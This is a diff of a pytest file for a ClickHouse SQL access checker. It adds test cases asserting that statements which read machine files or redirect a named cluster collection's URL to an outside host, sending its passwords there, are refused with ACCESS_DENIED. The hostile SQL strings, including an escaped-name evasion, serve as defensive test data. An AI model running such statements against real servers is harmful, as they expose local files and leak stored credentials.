@@ -47,9 +47,13 @@ def check(sql: str) -> None:
         "SELECT 1 FROM t SETTINGS additional_table_filters = {'t': 'file(\\'/x\\') = 1'}",
         "SET additional_result_filter = 'file(\\'/x\\') = 1'",
         DICTIONARY.format("CLICKHOUSE(QUERY 'SELECT file(\\'/x\\')')"),
+        "SELECT * FROM url(oncluster_peer_1, url = 'http://elsewhere', format = 'TSV')",
+        "CREATE TABLE t (a Int8) ENGINE = URL(`oncluster\\x5fpeer_1`, url = 'http://elsewhere')",
+        DICTIONARY.format("HTTP(NAME 'oncluster_peer_1' URL 'http://elsewhere')"),
+        "ALTER NAMED COLLECTION oncluster_peer_1 SET url = 'http://elsewhere' OVERRIDABLE",
     ],
 )
-def test_what_reads_or_writes_files_of_the_machine_is_denied(sql: str) -> None:
+def test_what_reads_or_writes_files_of_the_machine_or_sends_its_passwords_is_denied(sql: str) -> None:
     with pytest.raises(SqlError) as refusal:
         check(sql)
     assert (refusal.value.code, refusal.value.name) == (497, "ACCESS_DENIED")
